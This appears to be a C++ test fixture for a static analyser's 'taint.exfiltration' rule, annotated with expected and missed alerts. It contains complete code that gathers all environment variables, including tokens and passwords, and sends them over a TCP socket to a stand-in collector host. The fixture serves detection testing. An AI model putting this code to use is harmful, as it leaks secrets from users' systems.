// taint.exfiltration of the whole environment: a "diagnostics" helper
// copies main's third parameter into a std::list, walks it with an
// explicit iterator and a range-for, and writes each entry to a stream
// made with fdopen over a socket that another helper connected; then one
// variable, assigned into a std::string. The environment holds tokens and
// passwords whatever their names.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <list>
#include <string>

static int connect_collector()
{
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(7070);
    inet_pton(AF_INET, "192.0.2.77", &a.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0 && connect(s, reinterpret_cast<sockaddr *>(&a), sizeof a) != 0) {
        close(s);
        return -1;
    }
    return s;
}

static std::list<std::string> collect(char **envp)
{
    std::list<std::string> out;
    for (char **p = envp; *p; ++p)
        out.emplace_back(*p);
    return out;
}

// The stream is this helper's parameter: fprintf and fputs do not wait
// for their callers to say it is a socket (rules/models/libc-sinks.yaml,
// handle-from-callers), so these two are missed.
static void upload(FILE *to, const std::list<std::string> &entries)
{
    for (auto it = entries.begin(); it != entries.end(); ++it)
        std::fputs(it->c_str(), to); // $ MISSING: Alert[taint.exfiltration]
    std::string joined;
    for (const auto &e : entries)
        joined += e + ";";
    std::fprintf(to, "%s\n", joined.c_str()); // $ MISSING: Alert[taint.exfiltration]
}

int main(int argc, char **argv, char **envp)
{
    (void)argc;
    (void)argv;
    int s = connect_collector();
    if (s < 0)
        return 1;
    FILE *net = fdopen(s, "w");
    if (!net)
        return 1;
    upload(net, collect(envp));
    const std::list<std::string> entries = collect(envp);
    for (auto it = entries.begin(); it != entries.end(); ++it)
        std::fputs(it->c_str(), net); // $ Alert[taint.exfiltration]
    for (const auto &e : entries)
        std::fprintf(net, "%s\n", e.c_str()); // $ Alert[taint.exfiltration]
    std::string user;
    user = std::getenv("USER") ? std::getenv("USER") : "?";
    std::fputs(user.c_str(), net); // $ Alert[taint.exfiltration]
    std::fclose(net);
    return 0;
}
